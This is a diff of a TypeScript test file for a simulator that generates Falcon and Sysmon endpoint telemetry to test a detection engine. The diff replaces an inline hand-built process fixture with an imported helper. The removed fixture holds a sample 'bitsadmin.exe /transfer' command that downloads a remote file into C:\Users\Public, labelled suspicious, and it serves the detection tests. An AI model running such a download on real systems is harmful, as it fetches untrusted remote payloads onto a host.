@@ -5,38 +5,14 @@ import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import type { SimEvent } from './events.ts';
 import { FalconFormatter } from './falcon-format.ts';
 import { type BenchSource, generateBatch } from './generate.ts';
-import { Rng } from './prng.ts';
+import { handMadeProc } from './hand-made.ts';
 import { SysmonFormatter } from './sysmon-format.ts';
-import { BINARIES, hashesOf, makeHosts, type Proc, SYSTEM_ACCOUNTS } from './world.ts';
 
 /** The batches test/engine/differential.test.ts compares the engine with: 3 MiB, dense attacks. */
 const DIFFERENTIAL_MB = 3;
 const DIFFERENTIAL_ATTACK_RATE = 0.005;
 const DIFFERENTIAL_SEEDS = [1, 2, 3];
 const SOURCES: BenchSource[] = ['falcon', 'sysmon'];
-
-/** A process of the simulation, built by hand: what the formatters render. */
-function bitsadmin(): Proc {
-  const host = makeHosts(new Rng(7))[3]!;
-  const image = BINARIES.bitsadmin.path;
-  return {
-    host,
-    bin: BINARIES.bitsadmin,
-    image,
-    nameLower: 'bitsadmin.exe',
-    cmd: 'bitsadmin.exe /transfer j /download https://t.me/s/x C:\\Users\\Public\\x.dat',
-    cls: 'suspicious',
-    net: undefined,
-    account: SYSTEM_ACCOUNTS.system,
-    integrity: 'Medium',
-    guid: '{0a1b-65e1-0000-0001-000000000700}',
-    pid: 4_242,
-    fpid: '12345678901234',
-    parent: { image: BINARIES.cmd.path, cmd: 'cmd.exe', guid: '{0}', pid: 8, fpid: '99' },
-    startMs: Date.UTC(2024, 2, 1, 10, 0, 0, 123),
-    hashes: hashesOf(image),
-  };
-}
 
 describe('Generator: batches and their oracle', () => {
   let dir = '';
@@ -92,7 +68,7 @@ describe('Generator: batches and their oracle', () => {
   });
 
   describe('the time the oracle gives a process start', () => {
-    const create: SimEvent = { t: 'create', proc: bitsadmin(), time: bitsadmin().startMs };
+    const create: SimEvent = { t: 'create', proc: handMadeProc(), time: handMadeProc().startMs };
 
     it('is the FDR timestamp of a ProcessRollup2, which has no ContextTimeStamp', () => {
       // Prepare
